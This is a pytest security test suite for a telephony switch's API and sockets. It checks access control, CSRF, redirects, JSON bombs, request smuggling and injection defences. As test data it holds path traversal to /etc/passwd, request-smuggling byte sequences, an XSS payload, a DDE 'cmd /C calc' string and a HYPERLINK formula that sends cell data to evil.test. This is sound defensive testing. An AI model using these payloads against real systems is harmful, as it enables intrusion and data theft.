"""Attacks on a real switch over HTTP and its sockets; the words at the tests are rows of the list of attack classes."""

import asyncio
import csv
import io
import json
import re
import time
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager, suppress
from typing import Any, Final

import httpx
import pytest
import pytest_asyncio
from websockets.asyncio.client import connect
from websockets.exceptions import ConnectionClosed, InvalidStatus
from websockets.typing import Origin

from tests.api.attackers import BODIES, key_of, operations, somebody
from tests.api.conftest import Api, settings
from tests.peers.light import LightPeer
from tests.peers.wire import Refused
from xswitch_py import app
from xswitch_py.cli.serve import accounts
from xswitch_py.core.access import OWN, all_scopes
from xswitch_py.core.cdr_csv import HEADER, lines
from xswitch_py.core.commands import COMMANDS

pytestmark = pytest.mark.asyncio(loop_scope="module")

PASSWORD: Final = "secret-word"
COOKIE: Final = "__Host-xswitch"
MINE: Final = {"me.get", "phone.token", "calls.list", "bridges.list", "registrations.list", "cdrs.list",
               "recordings.list"}  # fmt: skip
SELF: Final = {"me.password", "auth.login", "auth.logout", "rpc"}  # what is about nobody else


@pytest_asyncio.fixture(loop_scope="module", scope="module")
async def switch() -> AsyncIterator[Api]:
    """A demo for all tests here."""
    made = app.build(settings(), demo=accounts(PASSWORD))
    await made.start()
    try:
        yield Api(made)
    finally:
        made.stop()
        await made.run()


@pytest_asyncio.fixture(loop_scope="module")
async def api(switch: Api) -> AsyncIterator[httpx.AsyncClient]:
    """The administrator's client."""
    async with switch.client() as client:
        yield client


def root(at: Api) -> str:
    return str(at.facts["http"])


@asynccontextmanager
async def logged_in(at: Api) -> AsyncIterator[httpx.AsyncClient]:
    """Log in as a page of ours does; the cookie is sent by hand, since httpx sends no `Secure` one to plain http."""
    async with at.client("") as client:
        reply = await client.post("/auth/login", json={"user": "admin", "password": PASSWORD})
        assert reply.status_code == 200, reply.text
        client.headers["Cookie"] = f"{COOKIE}={reply.cookies[COOKIE]}"
        client.headers["X-CSRF-Token"] = reply.json()["csrf"]
        yield client


def clean(reply: httpx.Response, words: tuple[str, ...] = ()) -> bool:
    """Say whether a refusal is one in our words, and tells nothing of what there is."""
    return (
        reply.headers["content-type"] == "application/problem+json"
        and not any(word in reply.text for word in words)
        and "Traceback" not in reply.text
        and ".py" not in reply.text
    )


# Who may what.


async def test_nobody_does_anything_without_saying_who_they_are(switch: Api, api: httpx.AsyncClient) -> None:
    async with switch.client("") as nobody:
        for one in await operations(api, root(switch)):
            reply = await one.ask(nobody, {}, root(switch))
            assert reply.status_code == 401 and clean(reply), one.name
            assert reply.json()["code"] == "not_authenticated"


async def test_a_user_gets_at_nothing_of_others(switch: Api, api: httpx.AsyncClient) -> None:
    """X18, X19, X21: every operation with the ids of somebody else's things; a list has nothing of them."""
    async with somebody(switch, api) as other, switch.client(await key_of(switch, "1000")) as eve:
        found = await operations(api, root(switch))
        assert {one.name for one in found} >= {"calls.trace", "calls.hangup", "users.change", "keys.remove"}
        for one in found:
            if one.name in SELF:
                continue
            reply = await one.ask(eve, other.ids, root(switch))
            if one.name in MINE:
                assert reply.status_code == 200, one.name
                assert not any(each in reply.text for each in (*other.ids.values(), *other.words)), one.name
            else:
                assert reply.status_code in (403, 404), (one.name, reply.text)
                assert clean(reply, other.words), one.name
        assert (await api.get(f"/calls/{other.ids['call']}")).json()["state"] == "answered"  # and it goes on


async def test_what_is_not_there_and_what_is_others_look_the_same(switch: Api, api: httpx.AsyncClient) -> None:
    """X6, X19: nobody finds out which ids there are, or who there is."""
    nothing = {"call": "call_nothing", "recording": "rec_nothing", "name": "nobody", "device": "reg_x", "key": "key_x",
               "registration": "reg_x", "bridge": "bridge_x", "route": "route_x", "webhook": "hook_x"}  # fmt: skip
    async with somebody(switch, api) as other, switch.client(await key_of(switch, "1000")) as eve:
        for one in await operations(api, root(switch)):
            if one.name in MINE | SELF or "{" not in one.path:
                continue
            there, not_there = [await one.ask(eve, ids, root(switch)) for ids in (other.ids, other.ids | nothing)]
            shapes = []
            for reply, ids in ((there, other.ids), (not_there, nothing)):
                said = reply.json() | {"instance": "", "request_id": ""}
                text = json.dumps(said)
                for value in sorted(ids.values(), key=len, reverse=True):
                    text = text.replace(value, "*")
                shapes.append((reply.status_code, text))
            assert shapes[0] == shapes[1], one.name


async def test_scripts_of_a_user_get_at_nothing_of_others_either(switch: Api, api: httpx.AsyncClient) -> None:
    """X19, X20: XCC's commands by the uuid of somebody else's channel."""
    more: dict[str, dict[str, Any]] = {
        "XNode.Play": {"media": {"type": "FILE", "data": "tone:test"}},
        "XNode.Bridge": {"destination": {"call_params": [{"dial_string": "user/1000"}]}},
        "XNode.ChannelBridge": {"peer_uuid": "x"},
        "XNode.Transfer": {"extension": "1000"},
        "XNode.ThreeWay": {"target_uuid": "x"},
        "XNode.SendDTMF": {"dtmf": "1"},
        "XNode.SetVar": {"data": {"a": "b"}},
        "XNode.GetVar": {"data": ["a"]},
        "XNode.SendINFO": {"content_type": "text/plain", "body": "x"},
    }
    async with somebody(switch, api) as other, switch.client(await key_of(switch, "1000")) as eve:
        said = (await eve.get(f"{root(switch)}/openrpc.json")).json()
        methods = [each["name"] for each in said["methods"] if each["name"].startswith("XNode.")]
        asked = [name for name in methods if name not in ("XNode.Dial", "XNode.JStatus")]
        assert len(asked) > 15
        for name in asked:
            params = {"uuid": other.leg} | more.get(name, {})
            request = {"jsonrpc": "2.0", "id": 1, "method": name, "params": params}
            reply = (await eve.post(f"{root(switch)}/rpc", json=request)).json()
            refused = reply.get("result", {}).get("code") == 404 or reply.get("error", {}).get("code")
            assert refused, (name, reply)
            assert not any(word in json.dumps(reply) for word in other.words), name
        assert (await api.get(f"/calls/{other.ids['call']}")).json()["state"] == "answered"


async def test_a_key_with_every_scope_but_one_cannot_do_what_needs_that(switch: Api, api: httpx.AsyncClient) -> None:
    """X20: as `COMMANDS` has it, through the door; and what a key may read it can."""
    keys: dict[str, httpx.AsyncClient] = {}
    for one in await operations(api, root(switch)):
        command = COMMANDS.get(one.name)
        if command is None:
            assert one.name in SELF | {"media.content", "recordings.content"}, one.name
            continue
        if command.scope not in keys:
            others = all_scopes() - {command.scope, command.scope + OWN, "__ANY__"}
            keys[command.scope] = switch.client(await key_of(switch, "admin", *sorted(others), role="admin"))
        reply = await one.ask(keys[command.scope], {}, root(switch))
        assert (reply.status_code, reply.json()["code"]) == (403, "forbidden"), one.name
        if one.method == "get" and "{" not in one.path:
            async with switch.client(await key_of(switch, "admin", command.scope, role="admin")) as able:
                assert (await one.ask(able, {}, root(switch))).status_code == 200, one.name
    for client in keys.values():
        await client.aclose()


async def test_a_link_to_a_recording_is_for_that_one_alone(switch: Api, api: httpx.AsyncClient) -> None:
    """X21: nobody makes one of another's, and none can be changed."""
    async with somebody(switch, api) as other, switch.client(await key_of(switch, "1000")) as eve:
        assert (await eve.post(f"/recordings/{other.ids['recording']}/link")).status_code == 404
        url = (await api.post(f"/recordings/{other.ids['recording']}/link")).json()["url"]
        later = re.sub(r"expires=(\d+)", lambda found: f"expires={int(found[1]) + 1000}", url)
        async with switch.client("") as nobody:
            for changed in (
                later,
                url[:-1] + ("0" if url[-1] != "0" else "1"),
                url.replace(other.ids["recording"], "rec_nothing"),
                url.replace("by=", "by=x"),
                url.partition("&signature")[0],
                url.partition("?")[0] + "/../../../users",
            ):
                assert (await nobody.get(root(switch) + changed)).status_code in (401, 404)


# Pages of others.


@pytest.mark.parametrize("origin", ["https://evil.test", "http://127.0.0.1:1", "null"])
async def test_a_page_of_another_origin_does_nothing_with_a_cookie(switch: Api, origin: str) -> None:
    """X5: should a browser send it all the same, as it does to every port of a host."""
    async with logged_in(switch) as page:
        headers = {"Origin": origin}
        assert (await page.get("/auth/me")).status_code == 200
        for method, path in (
            ("GET", "/auth/me"),
            ("POST", "/phone/token"),
            ("POST", "/auth/logout"),
            ("GET", "/events"),
        ):
            reply = await page.request(method, path, headers=headers)
            assert (reply.status_code, reply.json()["code"]) == (403, "csrf"), path
        reply = await page.post(f"{root(switch)}/rpc", json=BODIES["rpc"], headers=headers)
        assert reply.status_code == 403
        assert (await page.get("/auth/me")).status_code == 200


async def test_a_page_of_another_origin_gets_no_socket(switch: Api) -> None:
    """X5: neither for phones and scripts, nor for events; one of another port gets none with a cookie."""
    async with logged_in(switch) as page:
        cookie = {"Cookie": page.headers["Cookie"]}
    events = f"{root(switch).replace('http', 'ws', 1)}/api/v1/events"
    for url in (str(switch.facts["ws"]), events):
        for origin in ("https://evil.test", "null", "http://127.0.0.1.evil.test"):
            with pytest.raises(InvalidStatus, match="403"):
                await connect(url, origin=Origin(origin), additional_headers=cookie, proxy=None)
    async with connect(events, origin=Origin("http://127.0.0.1:1"), additional_headers=cookie, proxy=None) as peer:
        with pytest.raises(ConnectionClosed) as closed:
            await asyncio.wait_for(peer.recv(), 5)
        assert closed.value.rcvd is not None and (closed.value.rcvd.code, closed.value.rcvd.reason) == (4403, "csrf")
    async with connect(events, origin=Origin(root(switch)), additional_headers=cookie, proxy=None) as peer:
        with pytest.raises(TimeoutError):
            await asyncio.wait_for(peer.recv(), 0.3)


async def test_nothing_is_shared_with_other_origins(switch: Api, api: httpx.AsyncClient) -> None:
    """X5: no CORS, whatever is asked."""
    asking = {"Origin": "https://evil.test", "Access-Control-Request-Method": "POST",
              "Access-Control-Request-Headers": "authorization,x-csrf-token"}  # fmt: skip
    for path in ("/api/v1/calls", "/api/v1/auth/login", "/rpc", "/openapi.json", "/healthz", "/docs/"):
        for method in ("OPTIONS", "GET"):
            reply = await api.request(method, root(switch) + path, headers=asking)
            assert not [name for name in reply.headers if name.startswith("access-control")], path
            assert method == "GET" or reply.status_code == 405
            assert reply.headers["x-content-type-options"] == "nosniff"
            assert "frame-ancestors 'none'" in reply.headers["content-security-policy"]


async def test_the_cookie_says_all_that_protects_it(switch: Api) -> None:
    """X5."""
    async with switch.client("") as page:
        reply = await page.post("/auth/login", json={"user": "admin", "password": PASSWORD})
        name, *said = re.split(r"; ?", reply.headers["set-cookie"].lower())
        assert name.startswith("__host-xswitch=")
        assert set(said) == {"httponly", "secure", "samesite=strict", "path=/"}


# Headers that lie.


async def test_no_header_turns_a_request_into_another(switch: Api, api: httpx.AsyncClient) -> None:
    for name in ("X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override"):
        for value in ("DELETE", "POST"):
            before = await api.get("/users/1001", headers={name: value})
            assert (before.status_code, before.json()["name"]) == (200, "1001")
            assert (await api.post("/users/1001?_method=DELETE", headers={name: value})).status_code == 405
    for name in ("X-Original-URL", "X-Rewrite-URL"):
        assert (await api.get("/auth/me", headers={name: "/api/v1/users"})).json()["role"] == "admin"


@pytest.mark.parametrize("value", ["mine", "a\tb", "x" * 4000, "<script>"])
async def test_the_number_of_a_request_is_ours(switch: Api, api: httpx.AsyncClient, value: str) -> None:
    reply = await api.get("/nothing", headers={"X-Request-Id": value, "Traceparent": value})
    assert re.fullmatch(r"[0-9a-f]{32}", reply.headers["x-request-id"])
    assert reply.json()["request_id"] == reply.headers["x-request-id"]
    assert value not in reply.text


@pytest.mark.parametrize(
    "path", ["//evil.test", "/\\evil.test", "/%2f%2fevil.test", "//evil.test/%2e%2e", "/docs//evil.test/.."]
)
async def test_nobody_is_sent_elsewhere(switch: Api, path: str) -> None:
    """No redirect leads to another host, whatever the request says of ours."""
    host, port = root(switch).removeprefix("http://").split(":")
    for name in (f"{host}:{port}", "pbx.test"):
        reader, writer = await asyncio.open_connection(host, int(port))
        writer.write(f"GET {path} HTTP/1.1\r\nHost: {name}\r\nConnection: close\r\n\r\n".encode())
        head = (await reader.read()).partition(b"\r\n\r\n")[0].decode()
        writer.close()
        places = re.findall(r"(?im)^location: (.*)$", head)
        assert all(re.match(rf"(http://{re.escape(name)})?/[^/]", place.strip()) for place in places), head
    async with switch.client("") as client:
        for page in ("/static", "/demo", "/docs"):
            assert (await client.get(root(switch) + page)).headers["location"] == f"{page}/"


@pytest.mark.parametrize(
    "name", ["a\r\nSet-Cookie: a=b", "%0d%0aSet-Cookie: a=b", "a\u2028b", "\x00", 'a";x="', "../x"]
)
async def test_names_split_no_answer(switch: Api, api: httpx.AsyncClient, name: str) -> None:
    """In `Location` and elsewhere."""
    for reply in (
        await api.post("/users", json={"name": name}),
        await api.post("/gateways", json={"name": name, "proxy": "192.0.2.1"}),
        await api.post("/api-keys", json={"name": name, "scopes": ["me:read"]}),
        await api.get("/users", params={"q": name}),
    ):
        assert "set-cookie" not in reply.headers
        assert all(ord(sign) < 127 for value in reply.headers.values() for sign in value)


async def test_only_a_proxy_of_ours_says_where_somebody_is() -> None:
    """X6: of others `X-Forwarded-For` opens no key that is bound to networks, and hides nobody from the guard."""
    made = app.build(settings('listen.proxies=["192.0.2.77"]'), demo=accounts(PASSWORD))
    await made.start()
    try:
        at = Api(made)
        async with at.client() as admin:
            wish = {"name": "bound", "scopes": ["me:read"], "networks": ["203.0.113.0/24"]}
            bound = (await admin.post("/api-keys", json=wish)).json()["secret"]
        for more in (
            {"X-Forwarded-For": "203.0.113.5"},
            {"X-Forwarded-For": "203.0.113.5, 203.0.113.5", "X-Real-IP": "203.0.113.5"},
            {"Forwarded": "for=203.0.113.5"},
        ):
            async with at.client(bound) as client:
                assert (await client.get("/auth/me", headers=more)).status_code == 401
        async with at.client("") as guesser:
            for number in range(8):
                headers = {"X-Forwarded-For": f"198.51.100.{number}", "X-Forwarded-Proto": "https"}
                last = await guesser.post("/auth/login", json=BODIES["auth.login"], headers=headers)
            assert last.status_code == 429 and int(last.headers["retry-after"]) > 0
            away = {"Host": "pbx.test", "X-Forwarded-Proto": "https"}  # nobody believes that this is TLS
            reply = await guesser.post("/auth/login", json=BODIES["auth.login"], headers=away)
            assert (reply.status_code, reply.json()["code"]) == (403, "forbidden")
    finally:
        made.stop()
        await made.run()


@pytest.mark.parametrize(
    "headers",
    [{"X-Forwarded-For": "198.51.100.1"}, {"Forwarded": "for=198.51.100.1"}, {"Via": "1.1 x"}, {"Host": "evil.test"},
     {"Host": "localhost.evil.test"}, {"X-Real-IP": "198.51.100.1"}],
)  # fmt: skip
async def test_figures_are_for_this_computer_and_who_may_see_them(switch: Api, headers: dict[str, str]) -> None:
    async with switch.client("") as nobody:
        assert (await nobody.get(f"{root(switch)}/metrics")).status_code == 200
        assert (await nobody.get(f"{root(switch)}/metrics", headers=headers)).status_code == 401
    async with switch.client(await key_of(switch, "1000")) as user:
        assert (await user.get(f"{root(switch)}/metrics", headers=headers)).status_code == 403


# Too much.


def bombs() -> dict[str, bytes]:
    """JSON that is small on the wire, or costs a reader much."""
    return {
        "nested": b"[" * 500_000 + b"]" * 500_000,
        "nested a little": b"[" + b",".join([b"[" * 30 + b"]" * 30] * 15_000) + b"]",
        "objects": b"[" + b"{}," * 300_000 + b"{}]",
        "numbers": b"[" + b"1," * 490_000 + b"1]",
        "names": b"{" + b",".join(b'"%x":1' % number for number in range(70_000)) + b"}",
        "digits": b'{"name": ' + b"9" * 100_000 + b"}",
        "NaN": b'{"name": NaN}',
        "surrogate": b'{"name": "\\ud800"}',
        "no UTF-8": b'{"name": "\xff"}',
        "members": json.dumps({str(number): 1 for number in range(4000)}).encode(),
        "list": json.dumps({"name": "x", "scopes": [1] * 9000}).encode(),
        "batch": json.dumps([BODIES["rpc"]] * 33).encode(),
    }


@pytest.mark.parametrize("name", bombs())
async def test_no_json_holds_up_the_switch(switch: Api, api: httpx.AsyncClient, name: str) -> None:
    """X3, X25: it is refused at once, with or without a key, and in our words."""
    body, kind = bombs()[name], {"Content-Type": "application/json"}
    async with switch.client("") as nobody:
        for client, path in ((nobody, "/auth/login"), (api, "/api-keys"), (api, f"{root(switch)}/rpc")):
            took = list[float]()
            for _ in range(3):
                began = time.process_time()
                reply = await client.post(path, content=body, headers=kind)
                took.append(time.process_time() - began)
            assert min(took) < 0.15  # this client's own work is in it, too
            assert reply.status_code in (200, 400, 413, 422), reply.text
            assert len(reply.content) < 30_000
            if reply.status_code == 200:
                assert path.endswith("/rpc") and reply.json()["error"]["code"] in (-32700, -32600)
            else:
                assert clean(reply)


@pytest_asyncio.fixture(loop_scope="module")
async def strict() -> AsyncIterator[Api]:
    """A switch that grants little."""
    made = app.build(settings("api.rate=1", "api.burst=5"), demo=accounts(PASSWORD))
    await made.start()
    try:
        yield Api(made)
    finally:
        made.stop()
        await made.run()


async def test_who_asks_too_much_waits_at_every_door(strict: Api) -> None:
    """X1, X25: also by JSON-RPC; and is told for how long."""
    async with strict.client() as client:
        asks: list[tuple[str, dict[str, Any]]] = [("GET", {}), ("POST", {"json": BODIES["rpc"]})]
        for (method, more), path in zip(asks, ("/calls", f"{root(strict)}/rpc"), strict=True):
            replies = [await client.request(method, path, **more) for _ in range(20)]
            refused = [reply for reply in replies if reply.status_code == 429]
            assert refused and all(int(reply.headers["retry-after"]) >= 1 for reply in refused)
            assert all(reply.json()["code"] == "too_many_requests" for reply in refused)
        assert (await client.get(f"{root(strict)}/healthz")).status_code == 200


async def test_no_page_is_larger_than_told(switch: Api, api: httpx.AsyncClient) -> None:
    for one in await operations(api, root(switch)):
        command = COMMANDS.get(one.name)
        if command is None or "limit" not in command.params.model_fields or "{" in one.path:
            continue
        for limit in ("0", "-1", "501", "1000000", "1e3", "NaN", "9" * 400):
            reply = await api.get(root(switch) + one.path, params={"limit": limit})
            assert (reply.status_code, reply.json()["code"]) == (422, "invalid"), (one.name, limit)
        assert (await api.get(root(switch) + one.path, params={"limit": "500"})).status_code == 200


@pytest.mark.parametrize(
    "first",
    [b"GET /healthz HTTP/1.1\r\nHost: a\r\nX: " + b"x" * 20_000, b"GET /" + b"x" * 20_000,
     b"GET /healthz HTTP/1.1\r\nHost: a\r\n" + b"X: y\r\n" * 5000],
)  # fmt: skip
async def test_heads_have_a_size(switch: Api, first: bytes) -> None:
    """X2, X4."""
    host, port = root(switch).removeprefix("http://").split(":")
    reader, writer = await asyncio.open_connection(host, int(port))
    writer.write(first)
    assert (await asyncio.wait_for(reader.readline(), 5)).startswith(b"HTTP/1.1 431 ")
    writer.close()


SMUGGLED: Final = {
    "both lengths": b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    "two lengths": b"Content-Length: 4\r\nContent-Length: 5\r\n\r\nabcde",
    "a list of lengths": b"Content-Length: 4, 5\r\n\r\nabcde",
    "a signed length": b"Content-Length: +4\r\n\r\nabcd",
    "a negative length": b"Content-Length: -4\r\n\r\nabcd",
    "a huge length": b"Content-Length: " + b"9" * 400 + b"\r\n\r\nabcd",
    "another coding": b"Transfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n",
    "identity": b"Transfer-Encoding: identity\r\n\r\nabcd",
    "a space before the colon": b"Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
    "a folded header": b"X: a\r\n b: c\r\nContent-Length: 0\r\nTransfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n",
    "a vertical tab": b"Transfer-Encoding: \x0bchunked\r\n\r\n0\r\n\r\n",
    "a bad chunk": b"Transfer-Encoding: chunked\r\n\r\n-1\r\n\r\n",
    "a chunk without end": b"Transfer-Encoding: chunked\r\n\r\n" + b"f" * 40 + b"\r\n",
}


@pytest.mark.parametrize("name", SMUGGLED)
async def test_a_body_of_unclear_length_is_refused(switch: Api, name: str) -> None:
    """X4: and what is behind it is no request."""
    host, port = root(switch).removeprefix("http://").split(":")
    reader, writer = await asyncio.open_connection(host, int(port))
    behind = b"GET /healthz HTTP/1.1\r\nHost: a\r\n\r\n"
    writer.write(b"POST /rpc HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n" + SMUGGLED[name] + behind)
    answer = await asyncio.wait_for(reader.read(), 12)
    assert re.match(rb"HTTP/1\.1 (400|401|413|501) ", answer), answer
    assert b'"status":"ok"' not in answer or name == "identity"
    writer.close()


# What is played, and where.


@pytest.mark.parametrize(
    "source",
    ["file:../../etc/passwd", "file:/etc/passwd", "file:a/b", "file:a\\b", "file:C:x", "file:", "file:a\n",
     "http://127.0.0.1/", "https://127.0.0.1/x.wav", "tone:../x", "silence:99999999", "music ", "exec:id", "${x}",
     "local_stream://../x"],
)  # fmt: skip
async def test_nothing_is_played_but_sounds_by_their_names(switch: Api, api: httpx.AsyncClient, source: str) -> None:
    """X20: no path, no address, no command."""
    async with somebody(switch, api) as other:
        for path, wish in (("play", {"source": source, "wait": True}), ("gather", {"play": [source], "timeout": 0})):
            reply = await api.post(f"/calls/{other.ids['call']}/{path}", json=wish)
            assert reply.status_code == 422 and clean(reply, ("root:",)), (path, reply.text)


# What people are called.

NAMES: Final = {
    "markup": '<img src=x onerror="alert(1)">',
    "formula": '=HYPERLINK("http://evil.test?x="&A1,"1001")',
    "plus": "+1+cmd|' /C calc'!A0",
    "at": "@SUM(1)",
    "tab": "\t=1+1",
    "turned": "\u202e1001\u2066",
    "lines": "1001\r\nSet-Cookie: a=b\r\n\r\n",
    "zero": "10\x0001",
    "long": "9" * 10_000,
    "quotes": '1001","=1+1","',
}


@pytest.mark.parametrize("kind", NAMES)
async def test_no_name_or_number_is_more_than_a_text(switch: Api, api: httpx.AsyncClient, kind: str) -> None:
    """X5, X9: in the list of calls, the trace, the events, the record and its table; and the name is the account's."""
    name, stored = NAMES[kind], kind in ("markup", "formula", "plus", "at", "quotes", "turned")
    with suppress(UnicodeEncodeError):  # which no client can send
        assert ((await api.patch("/users/1000", json={"display_name": name})).status_code == 200) is stored
    heard = switch.app.desk.feed.subscribe()
    async with await LightPeer.open(str(switch.facts["ws"])) as phone:
        await phone.login("1000", PASSWORD)
        for number in (name, "4444"):
            with suppress(Refused, TimeoutError):  # a text that is no JSON has a reply that names no request
                async with asyncio.timeout(3):
                    call = await phone.invite(number, caller_id_name="<b>", caller_id_number=name)
                    await phone.expect("verto.bye", callID=call)
    cdrs = switch.app.desk.stores.cdrs
    async with asyncio.timeout(5):
        while not (rows := await cdrs.list(10)) or (stored and rows[0].caller.name != name):
            await asyncio.sleep(0.02)
    for row in rows:
        assert row.caller.number in ("1000", "1001") and "<b>" not in row.caller.name  # X9: it is the account's
        assert len(row.callee.number) <= 256
        trace = await api.get(f"/calls/call_{row.call}/trace")
        assert trace.headers["content-type"] == "application/json" and len(trace.text) < 100_000
    cells = [cell for line in csv.reader(io.StringIO(lines(rows), newline="")) for cell in line]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))]
    assert len(cells) == len(rows) * len(HEADER.split(","))
    for envelope in await asyncio.wait_for(heard.batch(), 5):
        assert "\n" not in envelope.text() and len(envelope.text()) < 10_000
        json.loads(envelope.text())
    heard.close()
